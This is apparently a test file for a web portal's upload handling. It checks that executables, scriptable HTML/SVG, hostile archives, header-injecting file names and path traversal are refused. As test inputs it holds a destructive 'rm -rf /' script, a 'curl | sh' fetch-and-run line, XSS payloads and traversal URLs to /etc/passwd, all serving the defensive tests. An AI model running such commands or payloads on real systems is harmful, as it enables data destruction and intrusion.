import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { and, eq, inArray } from 'drizzle-orm';
import sharp from 'sharp';
import { auditLogs, resources, roleResources, roles, storedFileChunks, storedFiles, uploads } from '../../server/db/schema';
import { loadConfig } from '../../server/config';
import { copyUploads, openUploadStore, STORED_CHUNK_BYTES } from '../../server/lib/uploadStore';
import { searchAddress } from '@shared/addressSearch';
import { downloadName, sanitizeFileName, sniff, TYPES, zipEntryNames } from '../../server/lib/uploads';
import { contentDisposition } from '@shared/contentDisposition';
import { bearer, createTestContext, dbKinds, type TestContext } from './harness';

const IMAGE_URL = '/apiv2/park/admin/uploader/image';
const ATTACHMENT_URL = '/api/util/admin/upload/attachment';
const DOCX_MIME = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** A multipart/form-data body with one file, built by hand as a browser would send it. */
function multipart(filename: string, data: Buffer, contentType = 'application/octet-stream', field = 'file') {
  const boundary = `----PortalBoundary${crypto.randomBytes(8).toString('hex')}`;
  const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`);
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  return { payload: Buffer.concat([head, data, tail]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (buf: Buffer) => {
  let c = 0xffffffff;
  for (const b of buf) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};

/** A ZIP archive with stored (uncompressed) entries: local headers, central directory, end record. */
function makeZip(entries: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const nameBuf = Buffer.from(name, 'utf8');
    const data = Buffer.from(text, 'utf8');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBuf.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBuf.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBuf, data);
    centrals.push(central, nameBuf);
    offset += 30 + nameBuf.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** The smallest Word document Word opens: content types, the package relationship and the body. */
const minimalDocx = () =>
  makeZip({
    '[Content_Types].xml':
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels':
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/document.xml':
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>厂房租赁意向书</w:t></w:r></w:p></w:body></w:document>',
  });

/** An ELF header as `cc` writes it for x86-64, followed by code-like bytes. */
const elfBinary = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0]), crypto.randomBytes(2000)]);

/** A Windows PE: the DOS stub `MZ` with e_lfanew pointing at `PE\0\0`. */
function peBinary() {
  const buf = Buffer.alloc(1024);
  buf.write('MZ', 0, 'latin1');
  buf.writeUInt32LE(0x80, 0x3c);
  buf.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  buf.write('PE\0\0', 0x80, 'latin1');
  buf.writeUInt16LE(0x8664, 0x84);
  return buf;
}

/** An OLE2 compound file whose directory holds the named streams (enough for the sniffer). */
function oleFile(streams: string[]) {
  const buf = Buffer.alloc(512 + 512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(buf, 0);
  ['Root Entry', ...streams].forEach((name, i) => {
    const at = 512 + i * 128;
    const encoded = Buffer.from(`${name}\0`, 'utf16le');
    encoded.copy(buf, at);
    buf.writeUInt16LE(encoded.length, at + 64);
  });
  return buf;
}

function listFiles(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.join(e.parentPath ?? e.path, e.name));
}

describe('content sniffing (unit)', () => {
  it('recognises types by their bytes, never by name', async () => {
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#1890ff' } })
      .png()
      .toBuffer();
    expect(sniff(png, 'virus.exe')).toMatchObject({ verdict: 'type', type: { mime: 'image/png', ext: 'png' } });
    expect(sniff(elfBinary(), 'photo.jpg')).toMatchObject({ verdict: 'executable', label: expect.stringContaining('ELF') });
    expect(sniff(peBinary(), 'report.pdf')).toMatchObject({ verdict: 'executable', label: expect.stringContaining('Windows') });
    expect(sniff(Buffer.from('#!/bin/sh\nrm -rf /\n'), 'notes.txt')).toMatchObject({ verdict: 'executable', label: expect.stringContaining('#!') });
    // Text that merely begins with the letters MZ is text, not a program.
    expect(sniff(Buffer.from('MZ-01 厂房,1200\n'), 'units.csv')).toMatchObject({ verdict: 'type', type: { mime: 'text/csv' } });
    expect(sniff(Buffer.from('%PDF-1.7\n%âãÏÓ\n'), 'x.bin')).toMatchObject({ type: { mime: 'application/pdf' } });
  });

  it('tells OOXML, JAR and plain ZIP apart by their entries, and Word from Excel 97-2003', () => {
    expect(zipEntryNames(minimalDocx())).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/document.xml']);
    expect(sniff(minimalDocx())).toMatchObject({ type: { ext: 'docx' } });
    expect(sniff(makeZip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' }))).toMatchObject({ type: { ext: 'xlsx' } });
    expect(sniff(makeZip({ '[Content_Types].xml': '<Types/>', 'ppt/presentation.xml': '<p/>' }))).toMatchObject({ type: { ext: 'pptx' } });
    expect(sniff(makeZip({ 'readme.txt': 'hello' }))).toMatchObject({ type: { ext: 'zip' } });
    expect(sniff(makeZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<d/>', 'word/vbaProject.bin': 'x' }))).toMatchObject({
      verdict: 'unsupported',
    });
    expect(sniff(makeZip({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': 'x' }))).toMatchObject({ verdict: 'executable' });
    expect(sniff(oleFile(['WordDocument', '1Table']))).toMatchObject({ type: { ext: 'doc' } });
    expect(sniff(oleFile(['Workbook']))).toMatchObject({ type: { ext: 'xls' } });
    expect(sniff(oleFile(['Workbook', '_VBA_PROJECT_CUR']))).toMatchObject({ verdict: 'unsupported' });
    expect(sniff(oleFile(['SummaryInformation']))).toMatchObject({ verdict: 'unsupported', label: expect.stringContaining('MSI') });
  });

  it('refuses what a browser would run: HTML, SVG, XML and text with a script or an event handler', () => {
    const refused = [
      '<!DOCTYPE html><html><body>hi</body></html>',
      '\uFEFF  <html><script>alert(1)</script></html>',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      '报名名单\n<script>fetch("/apiv2/account/admin/list")</script>\n',
      '备注：<img src=x onerror=alert(1)>',
    ];
    for (const text of refused) expect([text, sniff(Buffer.from(text), 'list.txt').verdict]).toEqual([text, 'executable']);
    // Ordinary text with angle brackets or the word "onload" stays text.
    expect(sniff(Buffer.from('面积 < 500 平方米 的单元, a < b, onload = 3, 1<2\n'), 'a.txt')).toMatchObject({ verdict: 'type', type: { ext: 'txt' } });
  });

  it('refuses archives that hold programs, scripts or pages, at any depth of folders', () => {
    for (const entry of ['setup.exe', 'tools/install.BAT', 'docs/readme.html', 'a/b/run.ps1', 'x.lnk', 'payload.js', 'app.apk']) {
      expect([entry, sniff(makeZip({ 'report.txt': '年度报告', [entry]: 'x' })).verdict]).toEqual([entry, 'executable']);
    }
    expect(sniff(makeZip({ 'report.txt': 'x', 'setup.exe': 'MZ' }))).toMatchObject({ label: expect.stringContaining('setup.exe') });
    expect(sniff(makeZip({ '报表/2026.xlsx': 'x', '说明.pdf': 'y', 'photos/': '' }))).toMatchObject({ verdict: 'type', type: { ext: 'zip' } });
  });

  it('names a download after what the file is, keeping the name the user gave it', () => {
    expect(downloadName('report.xlsx', TYPES.zip)).toBe('report.zip');
    expect(downloadName('年度报告.PDF', TYPES.pdf)).toBe('年度报告.PDF');
    expect(downloadName('photo.jpeg', TYPES.jpeg)).toBe('photo.jpeg');
    expect(downloadName('photo.png', TYPES.jpeg)).toBe('photo.jpg');
    expect(downloadName('page.html', TYPES.txt)).toBe('page.txt');
    expect(downloadName('README', TYPES.txt)).toBe('README.txt');
    expect(downloadName('v1.2 final', TYPES.pdf)).toBe('v1.2 final.pdf');
    expect(downloadName('...', TYPES.pdf)).toBe('file.pdf');
  });

  it('writes Content-Disposition with an ASCII fallback and the UTF-8 name, nothing of the name escaping it', () => {
    expect(contentDisposition('attachment', '租赁意向书.docx')).toBe(
      `attachment; filename="_____.docx"; filename*=UTF-8''${encodeURIComponent('租赁意向书.docx')}`,
    );
    const hostile = 'a"b\\c\r\nSet-Cookie: x=1; (it\'s)*.ics';
    const header = contentDisposition('attachment', hostile, 'policy-calendar.ics');
    expect(header).toBe('attachment; filename="policy-calendar.ics"; filename*=UTF-8\'\'a%22bcSet-Cookie%3A%20x%3D1%3B%20%28it%27s%29%2A.ics');
    expect(header).not.toMatch(/[\r\n]/);
    expect(contentDisposition('inline', '"%.png')).toBe(`inline; filename="__.png"; filename*=UTF-8''%22%25.png`);
  });

  it('keeps only a clean base name of the original file', () => {
    expect(sanitizeFileName('C:\\Users\\x\\..\\厂房\t照片<1>.png', 'png')).toBe('厂房 照片1.png');
    expect(sanitizeFileName('../../etc/passwd', 'txt')).toBe('passwd');
    expect(sanitizeFileName('...', 'pdf')).toBe('file.pdf');
    expect(sanitizeFileName(`${'长'.repeat(300)}.pdf`, 'pdf')).toMatch(/^长{196}\.pdf$/);
  });
});

describe('upload store configuration (unit)', () => {
  it('keeps uploads in the database with PostgreSQL and on disk with PGlite, unless UPLOAD_STORE says otherwise', () => {
    expect(loadConfig({}).uploadStore).toBe('disk');
    expect(loadConfig({ DATABASE_URL: 'postgres://portal@db.example-park.cn/portal' }).uploadStore).toBe('database');
    expect(loadConfig({ DATABASE_URL: 'postgres://portal@db.example-park.cn/portal', UPLOAD_STORE: 'disk' }).uploadStore).toBe('disk');
    expect(() => loadConfig({ UPLOAD_STORE: 's3' })).toThrow(/UPLOAD_STORE.*S3_BUCKET/);
  });
});

describe('address search (unit)', () => {
  it('finds 苏州工业园区 by 工业园区 with its full name, exact names first', () => {
    const found = searchAddress('工业园区', 50);
    expect(found).toContainEqual({ code: '320571', name: '苏州工业园区', fullName: '江苏省 苏州市 苏州工业园区', level: 'county' });
    const firstNonExact = found.findIndex((m) => m.name !== '工业园区');
    expect(found.slice(0, firstNonExact).every((m) => m.name === '工业园区')).toBe(true);
    expect(found.slice(firstNonExact).every((m) => m.name !== '工业园区')).toBe(true);
  });

  it('ranks exact, then prefix, then contains; names municipalities once; honours the limit', () => {
    expect(searchAddress('苏州')[0]).toEqual({ code: '320500', name: '苏州市', fullName: '江苏省 苏州市', level: 'city' });
    expect(searchAddress('东城区')[0]).toMatchObject({ name: '东城区', fullName: '北京市 东城区', level: 'county' });
    expect(searchAddress('江苏省')[0]).toEqual({ code: '320000', name: '江苏省', fullName: '江苏省', level: 'province' });
    expect(searchAddress('仙桃')[0]).toMatchObject({ fullName: '湖北省 仙桃市' });
    expect(searchAddress('区', 7)).toHaveLength(7);
    expect(searchAddress('   ')).toEqual([]);
    expect(searchAddress('苏州市苏州工业园')).toContainEqual(expect.objectContaining({ code: '320571' }));
    expect(searchAddress('苏州 工业园区')[0]).toMatchObject({ code: '320571' });
  });
});

// Each database with its default store: files on disk beside PGlite, in the database with PostgreSQL.
describe.each(dbKinds)('uploads and address search on %s', (kind) => {
  const store = kind === 'postgres' ? 'database' : 'disk';
  let ctx: TestContext;
  let admin: Record<string, string>;
  let uploadDir: string;
  /** The stored names the store holds. */
  const storedNames = async () =>
    store === 'disk'
      ? listFiles(uploadDir).map((f) => path.relative(uploadDir, f))
      : (await ctx.database.db.select({ name: storedFiles.name }).from(storedFiles)).map((r) => r.name);
  const readStored = async (name: string) =>
    store === 'disk'
      ? fs.readFileSync(path.join(uploadDir, name))
      : Buffer.concat(
          (await ctx.database.db.select().from(storedFileChunks).where(eq(storedFileChunks.name, name)).orderBy(storedFileChunks.seq)).map((r) => r.data),
        );

  const upload = (url: string, filename: string, data: Buffer, contentType?: string, headers = admin) => {
    const body = multipart(filename, data, contentType);
    return ctx.app.inject({ method: 'POST', url, payload: body.payload, headers: { ...headers, ...body.headers } });
  };
  const rowCount = async () => (await ctx.database.db.select({ id: uploads.id }).from(uploads)).length;

  beforeAll(async () => {
    uploadDir = fs.mkdtempSync(path.join(os.tmpdir(), 'portal-uploads-'));
    ctx = await createTestContext(kind, { uploadDir, uploadStore: store });
    admin = bearer(await ctx.adminToken());
  });
  afterAll(async () => {
    await ctx.close();
    fs.rmSync(uploadDir, { recursive: true, force: true });
  });

  it('stores a real PNG under a random name, with a thumbnail, a row and an audit entry, and serves both back', async () => {
    const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#1890ff' } })
      .png()
      .toBuffer();
    const res = await upload(IMAGE_URL, '一号厂房 外景.png', png, 'image/png');
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body).toMatchObject({ success: true, code: 0 });
    const data = body.data;
    expect(data).toMatchObject({ name: '一号厂房 外景.png', mime: 'image/png', size: png.length, width: 800, height: 600 });
    expect(data.url).toMatch(/^\/uploads\/2026\/11\/[0-9a-f]{32}\.png$/);
    expect(data.thumbUrl).toBe(data.url.replace(/\.png$/, '.thumb.webp'));

    // Stored under YYYY/MM with the random name, never the client's.
    expect((await readStored(data.url.replace(/^\/uploads\//, ''))).equals(png)).toBe(true);
    expect((await storedNames()).some((f) => f.includes('厂房'))).toBe(false);

    const [row] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, data.id));
    expect(row).toMatchObject({ kind: 'image', mime: 'image/png', originalName: '一号厂房 外景.png', width: 800, height: 600, size: png.length });
    expect(row.sha256).toBe(crypto.createHash('sha256').update(png).digest('hex'));
    expect(row.uploadedBy).not.toBeNull();
    const logs = await ctx.database.db
      .select()
      .from(auditLogs)
      .where(and(eq(auditLogs.entity, 'upload'), eq(auditLogs.entityId, String(data.id))));
    expect(logs).toHaveLength(1);
    expect(logs[0]).toMatchObject({ action: 'create', username: 'admin' });

    const file = await ctx.app.inject(data.url);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('image/png');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-disposition']).toMatch(/^inline; /);
    expect(file.rawPayload.equals(png)).toBe(true);
    // Kept a day, then revalidated: the same ETag answers 304 with no body.
    expect(file.headers['cache-control']).toBe('private, max-age=86400');
    const etag = file.headers.etag as string;
    expect(etag).toMatch(/^"[0-9a-f]+-[0-9a-f]+"$/);
    const unchanged = await ctx.app.inject({ url: data.url, headers: { 'if-none-match': etag } });
    expect([unchanged.statusCode, unchanged.rawPayload.length, unchanged.headers.etag]).toEqual([304, 0, etag]);
    expect((await ctx.app.inject({ url: data.url, headers: { 'if-none-match': '"other"' } })).statusCode).toBe(200);

    const thumb = await ctx.app.inject(data.thumbUrl);
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/webp');
    expect(await sharp(thumb.rawPayload).metadata()).toMatchObject({ format: 'webp', width: 320, height: 240 });
  });

  it('accepts JPEG, WebP and GIF images and reads their size', async () => {
    const base = sharp({ create: { width: 64, height: 48, channels: 3, background: '#52c41a' } });
    for (const [format, ext] of [
      ['jpeg', 'jpg'],
      ['webp', 'webp'],
      ['gif', 'gif'],
    ] as const) {
      const res = await upload(IMAGE_URL, 'picture.bin', await base.clone().toFormat(format).toBuffer());
      expect([format, res.statusCode]).toEqual([format, 200]);
      expect(res.json().data).toMatchObject({ mime: `image/${format}`, width: 64, height: 48 });
      expect(res.json().data.url).toMatch(new RegExp(`\\.${ext}$`));
    }
  });

  it('refuses executables named like images or documents with 415 and stores nothing', async () => {
    const before = { rows: await rowCount(), files: (await storedNames()).length };
    const elf = await upload(IMAGE_URL, 'photo.jpg', elfBinary(), 'image/jpeg');
    expect(elf.statusCode).toBe(415);
    expect(elf.json()).toMatchObject({ success: false, code: 415 });
    expect(elf.json().errorMessage).toMatch(/Linux executable \(ELF\)/);

    const mz = await upload(IMAGE_URL, 'photo.jpg', peBinary(), 'image/jpeg');
    expect(mz.statusCode).toBe(415);
    expect(mz.json().errorMessage).toMatch(/Windows executable/);

    const pe = await upload(ATTACHMENT_URL, '年度报告.pdf', peBinary(), 'application/pdf');
    expect(pe.statusCode).toBe(415);
    const script = await upload(ATTACHMENT_URL, 'notes.txt', Buffer.from('#!/bin/bash\ncurl http://x | sh\n'), 'text/plain');
    expect(script.statusCode).toBe(415);
    expect(script.json().errorMessage).toMatch(/#!/);

    expect(await rowCount()).toBe(before.rows);
    expect(await storedNames()).toHaveLength(before.files);
  });

  it('refuses HTML, SVG and archives holding programs; names a download by its content', async () => {
    const before = { rows: await rowCount(), files: (await storedNames()).length };
    const html = await upload(ATTACHMENT_URL, '通知.html', Buffer.from('<!doctype html><script>alert(document.cookie)</script>'), 'text/html');
    expect([html.statusCode, html.json().errorMessage]).toEqual([415, expect.stringMatching(/HTML, SVG or XML markup/)]);
    const svg = await upload(IMAGE_URL, 'logo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/svg+xml');
    expect(svg.statusCode).toBe(415);
    const zipped = await upload(ATTACHMENT_URL, 'report.xlsx', makeZip({ '说明.txt': '请运行安装程序', 'setup.exe': 'MZ' }));
    expect([zipped.statusCode, zipped.json().errorMessage]).toEqual([415, expect.stringMatching(/setup\.exe/)]);
    expect(await rowCount()).toBe(before.rows);
    expect(await storedNames()).toHaveLength(before.files);

    // A plain ZIP called report.xlsx is stored and offered as report.zip, as a download that runs nothing.
    const zip = await upload(ATTACHMENT_URL, 'report.xlsx', makeZip({ '报表.csv': '企业,营收\n' }));
    expect(zip.statusCode).toBe(200);
    expect(zip.json().data).toMatchObject({ name: 'report.zip', mime: 'application/zip' });
    const file = await ctx.app.inject(zip.json().data.url);
    expect(file.headers['content-disposition']).toBe(`attachment; filename="report.zip"; filename*=UTF-8''report.zip`);
    expect(file.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    // A row stored before names followed content is served under its type's extension too.
    await ctx.database.db.update(uploads).set({ originalName: 'old.html' }).where(eq(uploads.id, zip.json().data.id));
    expect((await ctx.app.inject(zip.json().data.url)).headers['content-disposition']).toMatch(/filename="old\.zip"/);
  });

  it("shows a PDF asked for as a preview in the portal's own frames only; anything else stays a sandboxed download", async () => {
    const pdf = await upload(ATTACHMENT_URL, '营业执照.pdf', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'), 'application/pdf');
    expect(pdf.statusCode).toBe(200);
    const url = pdf.json().data.url as string;
    const download = await ctx.app.inject(url);
    expect(download.headers['content-disposition']).toMatch(/^attachment;/);
    expect(download.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(download.headers['x-frame-options']).toBe('DENY');

    const preview = await ctx.app.inject(`${url}?preview=1`);
    expect(preview.statusCode).toBe(200);
    expect(preview.headers['content-type']).toBe('application/pdf');
    expect(preview.headers['content-disposition']).toMatch(/^inline;/);
    // The browser's PDF viewer draws nothing under a sandbox: framed by this origin only, loading nothing itself.
    expect(preview.headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'self'");
    expect(preview.headers['x-frame-options']).toBe('SAMEORIGIN');
    expect(preview.headers['x-content-type-options']).toBe('nosniff');

    // A preview of anything but a PDF is the usual download; an unknown value is refused.
    const zip = await upload(ATTACHMENT_URL, 'report.zip', makeZip({ '报表.csv': '企业,营收\n' }));
    const zipPreview = await ctx.app.inject(`${zip.json().data.url}?preview=1`);
    expect(zipPreview.headers['content-disposition']).toMatch(/^attachment;/);
    expect(zipPreview.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(zipPreview.headers['x-frame-options']).toBe('DENY');
    expect((await ctx.app.inject(`${url}?preview=yes`)).statusCode).toBe(400);
  });

  it('refuses a body declared over the limit with 413 before reading it, and closes the connection', async () => {
    await ctx.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = ctx.app.server.address() as { port: number };
    const declared = 50 * 1024 * 1024;
    const outcome = await new Promise<{ status: number; connection: string | undefined; body: string; sent: number }>((resolve, reject) => {
      const req = http.request({
        host: '127.0.0.1',
        port,
        method: 'POST',
        path: ATTACHMENT_URL,
        headers: { ...admin, 'content-type': 'multipart/form-data; boundary=x', 'content-length': declared },
      });
      let sent = 0;
      req.on('response', (res) => {
        let body = '';
        res.on('data', (c) => (body += c));
        res.on('end', () => resolve({ status: res.statusCode!, connection: res.headers.connection, body, sent }));
      });
      req.on('error', reject);
      // Only 64 KB of the declared 50 MB is ever sent: the answer must not wait for the rest.
      const chunk = Buffer.alloc(64 * 1024, 0x61);
      req.write(chunk, () => (sent += chunk.length));
    });
    expect(outcome.status).toBe(413);
    expect(outcome.connection).toBe('close');
    expect(JSON.parse(outcome.body).errorMessage).toMatch(/20 MB/);
  });

  it('refuses a file over the limit with 413 naming the limit, and stores nothing', async () => {
    const before = { rows: await rowCount(), files: (await storedNames()).length };
    const big = Buffer.alloc(10 * 1024 * 1024 + 1);
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(big);
    const res = await upload(IMAGE_URL, 'huge.png', big, 'image/png');
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({ success: false, code: 413 });
    expect(res.json().errorMessage).toMatch(/10 MB/);
    expect(await rowCount()).toBe(before.rows);
    expect(await storedNames()).toHaveLength(before.files);
  });

  it('accepts a .docx attachment and serves it as a download under its original name', async () => {
    const docx = minimalDocx();
    const res = await upload(ATTACHMENT_URL, '租赁意向书.docx', docx, 'application/octet-stream');
    expect(res.statusCode).toBe(200);
    const data = res.json().data;
    expect(data).toMatchObject({ name: '租赁意向书.docx', mime: DOCX_MIME, size: docx.length, width: null, height: null, thumbUrl: null });
    expect(data.url).toMatch(/^\/uploads\/2026\/11\/[0-9a-f]{32}\.docx$/);

    const file = await ctx.app.inject(data.url);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe(DOCX_MIME);
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-disposition']).toBe(`attachment; filename="_____.docx"; filename*=UTF-8''${encodeURIComponent('租赁意向书.docx')}`);
    expect(file.rawPayload.equals(docx)).toBe(true);

    // A document is not an image.
    const asImage = await upload(IMAGE_URL, 'scan.png', docx, 'image/png');
    expect(asImage.statusCode).toBe(415);
    expect(asImage.json().errorMessage).toMatch(/Word document.*Images may be JPEG, PNG, WebP or GIF/);
  });

  it('accepts UTF-8 text and CSV attachments, served as text with a charset', async () => {
    const csv = await upload(ATTACHMENT_URL, '厂房清单.csv', Buffer.from('楼栋,楼层,面积\nA1,3,1200.5\n'), 'text/csv');
    expect(csv.statusCode).toBe(200);
    expect(csv.json().data).toMatchObject({ mime: 'text/csv', name: '厂房清单.csv' });
    expect(csv.json().data.url).toMatch(/\.csv$/);
    const served = await ctx.app.inject(csv.json().data.url);
    expect(served.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(served.headers['content-disposition']).toMatch(/^attachment; /);

    const txt = await upload(ATTACHMENT_URL, 'README', Buffer.from('入驻须知\n'), 'application/octet-stream');
    expect(txt.statusCode).toBe(200);
    expect(txt.json().data).toMatchObject({ mime: 'text/plain' });
    expect(txt.json().data.url).toMatch(/\.txt$/);
  });

  it(`serves a file of several ${STORED_CHUNK_BYTES / 1024} KB chunks whole and in order (${store} store)`, async () => {
    const lines = Array.from({ length: 30_000 }, (_, i) => `${String(i).padStart(5, '0')},苏州工业园区星湖街${i}号,标准厂房`);
    const csv = Buffer.from(`${lines.join('\n')}\n`);
    expect(csv.length).toBeGreaterThan(2 * STORED_CHUNK_BYTES);
    const res = await upload(ATTACHMENT_URL, '园区厂房台账.csv', csv, 'text/csv');
    expect(res.statusCode).toBe(200);
    const name = res.json().data.url.replace(/^\/uploads\//, '');
    const chunks = await ctx.database.db.select({ seq: storedFileChunks.seq }).from(storedFileChunks).where(eq(storedFileChunks.name, name));
    expect(chunks).toHaveLength(store === 'database' ? Math.ceil(csv.length / STORED_CHUNK_BYTES) : 0);
    const served = await ctx.app.inject(res.json().data.url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-length']).toBe(String(csv.length));
    expect(served.rawPayload.equals(csv)).toBe(true);
  });

  it('copies every recorded upload into the other store (npm run uploads:move), once', async () => {
    const png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#fa8c16' } })
      .png()
      .toBuffer();
    const res = await upload(IMAGE_URL, '园区大门.png', png, 'image/png');
    const name = res.json().data.url.replace(/^\/uploads\//, '');
    const here = openUploadStore(store, { db: ctx.database.db, dir: uploadDir });
    const otherDir = fs.mkdtempSync(path.join(os.tmpdir(), 'portal-uploads-other-'));
    // The other store: a folder of its own, or the database's tables (empty of this suite's files while it is on disk).
    const other = openUploadStore(store === 'disk' ? 'database' : 'disk', { db: ctx.database.db, dir: otherDir });
    try {
      const recorded = await ctx.database.db.select({ storedName: uploads.storedName, thumbName: uploads.thumbName }).from(uploads);
      const files = recorded.flatMap((r) => [r.storedName, r.thumbName]).filter(Boolean);
      const first = await copyUploads(ctx.database.db, here, other);
      expect(first.copied + first.missing.length).toBe(files.length);
      expect(first.missing).not.toContain(name);
      const copy = await other.stat(name);
      const bytes: Buffer[] = [];
      for await (const chunk of copy!.open()) bytes.push(chunk as Buffer);
      expect(Buffer.concat(bytes).equals(png)).toBe(true);
      expect(await here.stat(name)).not.toBeNull();
      const again = await copyUploads(ctx.database.db, here, other);
      expect(again).toMatchObject({ copied: 0, present: first.copied });
    } finally {
      fs.rmSync(otherDir, { recursive: true, force: true });
    }
  });

  it('refuses unknown binary data, an empty file and a body that is not multipart', async () => {
    const before = await rowCount();
    const unknown = Buffer.concat([Buffer.from([0x00, 0x13, 0x37, 0xfe, 0xff]), crypto.randomBytes(500)]);
    const res = await upload(ATTACHMENT_URL, 'data.pdf', unknown, 'application/pdf');
    expect(res.statusCode).toBe(415);
    expect(res.json().errorMessage).toMatch(/not recognised/);
    const rar = await upload(ATTACHMENT_URL, 'a.zip', Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), crypto.randomBytes(64)]));
    expect(rar.statusCode).toBe(415);
    expect(rar.json().errorMessage).toMatch(/RAR archive/);

    expect((await upload(ATTACHMENT_URL, 'empty.txt', Buffer.alloc(0))).statusCode).toBe(400);
    const json = await ctx.app.inject({ method: 'POST', url: ATTACHMENT_URL, payload: {}, headers: admin });
    expect(json.statusCode).toBe(400);
    expect(json.json().errorMessage).toMatch(/multipart\/form-data/);
    expect(await rowCount()).toBe(before);
  });

  it('serves only recorded files: traversal and unknown names are refused', async () => {
    fs.mkdirSync(path.join(uploadDir, '2026', '11'), { recursive: true });
    const orphan = `${'a'.repeat(32)}.txt`;
    fs.writeFileSync(path.join(uploadDir, '2026', '11', orphan), 'not uploaded through the API');
    fs.writeFileSync(path.join(uploadDir, 'secret.txt'), 'root:x:0:0');
    expect((await ctx.app.inject(`/uploads/2026/11/${orphan}`)).statusCode).toBe(404);
    expect((await ctx.app.inject(`/uploads/2026/11/${'b'.repeat(32)}.png`)).statusCode).toBe(404);
    for (const url of [
      '/uploads/2026/11/..%2F..%2Fsecret.txt',
      '/uploads/2026/11/..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd',
      '/uploads/..%2F..%2F/11/secret.txt',
      '/uploads/2026/..%2F/secret.txt',
      '/uploads/2026/11/%2e%2e%2fsecret.txt',
      '/uploads/2026/11/../../secret.txt',
      '/uploads/2026/11/secret.txt',
    ]) {
      const res = await ctx.app.inject(url);
